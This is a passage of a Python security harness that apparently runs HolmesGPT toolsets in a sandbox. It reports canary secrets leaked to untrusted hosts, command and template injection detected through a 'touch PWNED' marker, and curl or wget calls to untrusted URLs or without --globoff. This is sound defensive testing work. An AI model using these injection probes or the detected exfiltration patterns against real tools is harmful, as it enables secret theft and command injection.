                    invoke_errors.append(f"{t.name}/{tool.name}: {out[:200]}")
                n_invocations += 1
                for var in canaries_in(out):
                    STATE.finding("EXPOSED", toolset=t.name, tool=tool.name, param=pname, value=STATE.ctx["value"], secret=var,
                                  detail=f"{var} canary in the tool result the model reads")
                for rec in STATE.commands[n_cmds_before:]:
                    check_command(rec, marker, params.get(pname) if pname != "(benign)" else None, trusted)

    # --- judge network -------------------------------------------------------------------------
    for r in STATE.requests + [dict(c, text="", url=f"{c['host']}:{c['port']}", method="CONNECT") for c in STATE.connects]:
        if r["phase"] in ("import",):
            continue
        ctx = r["ctx"]
        dest = f"{r['host']}:{r['port']}"
        hay = expand_haystack(r.get("text") or "") + "\n" + expand_haystack(r.get("url") or "")
        vars_ = canaries_in(hay)
        untrusted = not is_trusted(trusted, r["host"], r["port"])
        for var in vars_:
            if untrusted or var in NEVER_SENT:
                STATE.finding("LEAK", toolset=ctx.get("toolset", "(load)"), tool=ctx.get("tool"), param=ctx.get("param"),
                              value=ctx.get("value"), destination=dest, secret=var,
                              detail=f"{var} sent ({r['phase']}, {r.get('via', '')}{', untrusted' if untrusted else ''}) {r['method']} {r['url'][:120]}")
        if untrusted and not vars_:
            egress(dict(toolset=ctx.get("toolset", "(load)"), tool=ctx.get("tool"), param=ctx.get("param"),
                        value=ctx.get("value"), destination=dest,
                        detail=f"{r['phase']} {r.get('via', '')} {r['method']} {r['url'][:120]}"), r["host"])
    for rec in STATE.refused_exec:
        ctx = rec["ctx"]
        STATE.finding("INJECTION" if ctx.get("marker") else "PREREQ" if rec["phase"] == "prereq" else "EXEC",
                      toolset=ctx.get("toolset"), tool=ctx.get("tool"), param=ctx.get("param"),
                      detail=f"direct exec attempted: {rec['what'][:160]}")

    failed_no_tools = sorted(t.name for t in enabled if t.status != ToolsetStatusEnum.ENABLED and not t.tools)
    # NOTHING
    if tools_total > 0 and n_invocations == 0:
        STATE.finding("NOTHING", detail=f"{tools_total} tools in enabled toolsets but none was invoked")
    wanted = [n for n, e in file_entries.items() if isinstance(e, dict) and e.get("enabled", True) is not False]
    if wanted and not enabled:
        STATE.finding("NOTHING", detail=f"the file enables {len(wanted)} toolsets but HolmesGPT enabled none of them")
    if enabled and n_prereq == 0:
        STATE.finding("NOTHING", detail="no prerequisites check ran")

    summary = (
        f"{path}: toolsets loaded {len(toolsets)}, enabled {len(enabled)} "
        f"({sum(1 for t in enabled if t.status == ToolsetStatusEnum.ENABLED)} passed prerequisites); "
        f"prerequisite checks {n_prereq}; tools {n_tools}; invocations {n_invocations}; "
        f"requests {len(STATE.requests)}; connections {len(STATE.connects)}; commands {len(STATE.commands)}; "
        f"sandbox: {'netns+nobody' if SANDBOX.isolate else 'PATH stubs only'}"
        + (f"; failed prerequisites (tools not built): {', '.join(failed_no_tools)}" if failed_no_tools else "")
        + (f"; HolmesGPT defaults enabled but not named by the file (not exercised): {', '.join(defaults_not_exercised)}"
           if defaults_not_exercised else "")
    )
    if args.verbose:
        for e in invoke_errors[:20]:
            print(f"invoke error: {e}", file=sys.stderr)
        for t in enabled:
            print(f"enabled: {t.name} [{t.status.value}] tools={[x.name for x in t.tools]}", file=sys.stderr)
    shutil.rmtree(workdir, ignore_errors=True)
    for n in NOTES:
        print(n)
    if STATE.findings:
        for _, line in STATE.findings:
            print(line)
        print(f"FAIL {len(STATE.findings)} finding(s); {summary}")
        return 1
    print(f"OK no findings; {summary}")
    return 0


CURL_NOGLOB = {"-g", "--globoff"}


def check_command(rec, marker, value, trusted):
    ctx = rec["ctx"]
    argvs = parse_execlog(rec["log"])
    rec["argvs"] = argvs
    kw = dict(toolset=ctx.get("toolset"), tool=ctx.get("tool"), param=ctx.get("param"), value=ctx.get("value"))
    # injected command ran / marker file created
    if marker:
        created = []
        for root, _dirs, files in os.walk(rec["cwd"]):
            created += [f for f in files if f.startswith(marker)]
        touched = [a for a in argvs if a and a[0] == "touch" and any(marker in x for x in a[1:])]
        if created or touched:
            STATE.finding("INJECTION", **kw, detail=f"injected `touch {marker}` ran: {rec['cmd'][:160]!r}")
        # argument injection: the marker reached argv but the value was split
        enc = set()
        if value:
            enc = {value, quote(value, safe=""), quote_plus(value), quote(value, safe="/:"), json.dumps(value)[1:-1],
                   json.dumps(value, ensure_ascii=False)[1:-1]}
        for a in argvs:
            if not a or a[0] == "touch":
                continue
            hit = [x for x in a[1:] if marker in x]
            if hit and not any(any(e and e in x for e in enc) for x in hit):
                STATE.finding("INJECTION", **kw, detail=f"value split across argv of {a[0]}: {a[:8]!r}"[:300])
                break
    # SSTI: the value rendered as a template reached Popen (a command issued by the template)
    if rec["cmd"].startswith("touch PWNED") or re.match(r"^\S*sh -c touch PWNED", rec["cmd"]):
        STATE.finding("INJECTION", **kw, detail=f"template injection ran a process: {rec['cmd'][:120]!r}")
    # curl / wget destinations, canaries in argv, globbing
    for a in argvs:
        if not a or a[0] not in ("curl", "wget"):
            continue
        urls = []
        for i, x in enumerate(a[1:], 1):
            if re.match(r"^[a-zA-Z][a-zA-Z0-9+.-]*://", x):
                urls.append(x)
            elif i > 1 and a[i - 1] in ("--url", "-x", "--proxy"):
                urls.append(x if "://" in x else f"http://{x}")
        argtext = expand_haystack("\n".join(a))
        vars_ = canaries_in(argtext)
        for u in urls:
            h, p = url_dest(u)
            dest = f"{h}:{p}"
            untrusted = not is_trusted(set(trusted), h, p)
            for var in vars_:
                if untrusted or var in NEVER_SENT:
                    STATE.finding("LEAK", **kw, destination=dest, secret=var, detail=f"{var} in {a[0]} argv: {' '.join(a)[:160]!r}")
            if untrusted:
                egress(dict(kw, destination=dest, detail=f"{a[0]} to untrusted URL {u[:120]!r}"), h)
            if a[0] == "curl" and not (CURL_NOGLOB & set(a)) and re.search(r"[\[\]{}]", u):
                STATE.finding("CURLGLOB", **kw, destination=dest, detail=f"curl without --globoff on {u[:120]!r}")


if __name__ == "__main__":
    try:
        sys.exit(main(sys.argv))
    except SystemExit:
        raise
    except Exception:
        traceback.print_exc()
        sys.exit(2)
